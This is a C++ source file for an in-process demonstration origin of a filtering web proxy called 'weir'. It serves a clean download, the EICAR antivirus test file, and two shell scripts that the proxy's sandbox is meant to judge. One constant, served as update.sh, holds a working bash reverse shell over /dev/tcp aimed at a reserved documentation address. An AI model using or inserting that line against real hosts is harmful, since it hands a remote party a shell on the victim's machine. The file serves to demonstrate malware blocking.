#include "proxy/demo_origin.h"

#include <array>
#include <string>

namespace weir {
namespace {

struct DemoFile {
  std::string_view path, content_type, body;
};

// The EICAR test file, turned by 13 so that this source does not carry it.
constexpr std::string_view kEicarRot13 =
    R"(K5B!C%@NC[4\CMK54(C^)7PP)7}$RVPNE-FGNAQNEQ-NAGVIVEHF-GRFG-SVYR!$U+U*)";

constexpr std::string_view kIndex =
    "<!doctype html><html lang=\"en\"><meta charset=\"utf-8\"><title>weir demonstration</title>"
    "<style>body{font:16px/1.6 sans-serif;max-width:40em;margin:3em auto;padding:0 1em}</style>"
    "<h1>It flows</h1><p>This page came through weir, out of its own demonstration origin.</p>"
    "<ul><li><a href=\"/hello.txt\" download>hello.txt</a>: a clean download, delivered</li>"
    "<li><a href=\"/eicar.com\">eicar.com</a>: the antivirus test file, blocked</li>"
    "<li><a href=\"/setup.sh\" download>setup.sh</a>: an unknown script, delivered after a sandbox "
    "has seen it run</li>"
    "<li><a href=\"/update.sh\" download>update.sh</a>: another, which does there what it should "
    "not</li></ul></html>";

// Does no harm to who runs it: 192.0.2.1 belongs to nobody (RFC 5737).
constexpr std::string_view kOffersShell =
    "#!/bin/bash\n# Part of the demonstration: it offers a shell to an address of nobody.\n"
    "where=tcp/192.0.2.1/4444\nexec 3<>\"/dev/$where\" && exec bash <&3 >&3\n";

constexpr std::array<DemoFile, 5> kFiles = {{
    {"/", "text/html; charset=utf-8", kIndex},
    {"/hello.txt", "text/plain; charset=utf-8", "Hello from behind the weir.\n"},
    {"/eicar.com", "application/octet-stream", {}},
    {"/setup.sh", "application/x-sh", "#!/bin/sh\necho 'Hello from behind the weir.'\n"},
    {"/update.sh", "application/x-sh", kOffersShell},
}};

std::string eicar() {
  std::string text(kEicarRot13);
  for (char& c : text) {
    if (c >= 'A' && c <= 'Z') c = static_cast<char>('A' + (c - 'A' + 13) % 26);
  }
  return text;
}

class DemoOrigin final : public OriginStream {
 public:
  DemoOrigin() {
    facts_.address = "in-process";
    facts_.protocol = "demo";
  }
  const OriginFacts& facts() const override { return facts_; }

  Co<Result<void>> send_head(const RequestHead& head) override {
    const std::string_view path = std::string_view(head.path).substr(0, head.path.find('?'));
    head_.status = 404;
    head_.fields.add("content-type", "text/plain");
    body_ = "There is no such page in the demonstration.\n";
    for (const DemoFile& file : kFiles) {
      if (file.path != path) continue;
      head_.status = 200;
      head_.fields.set("content-type", std::string(file.content_type));
      body_ = file.body.empty() ? eicar() : std::string(file.body);
    }
    head_.framing = {Framing::Kind::length, body_.size()};
    if (head.method == "HEAD") body_.clear();
    co_return Result<void>{};
  }
  Co<Result<void>> send_body(ByteView) override { co_return Result<void>{}; }
  Co<Result<void>> send_end(const Fields&) override { co_return Result<void>{}; }
  Co<Result<ResponseHead>> read_head(Duration) override { co_return head_; }
  Co<Result<BodyPiece>> read_body(Duration) override {
    if (read_) co_return BodyPiece{};
    read_ = true;
    co_return BodyPiece{as_bytes(body_)};
  }
  const Fields& response_trailers() const override { return trailers_; }
  void reset() override { read_ = true; }

 private:
  OriginFacts facts_;
  ResponseHead head_;
  Fields trailers_;
  std::string body_;
  bool read_ = false;
};

}  // namespace

std::unique_ptr<OriginStream> make_demo_origin() { return std::make_unique<DemoOrigin>(); }

}  // namespace weir
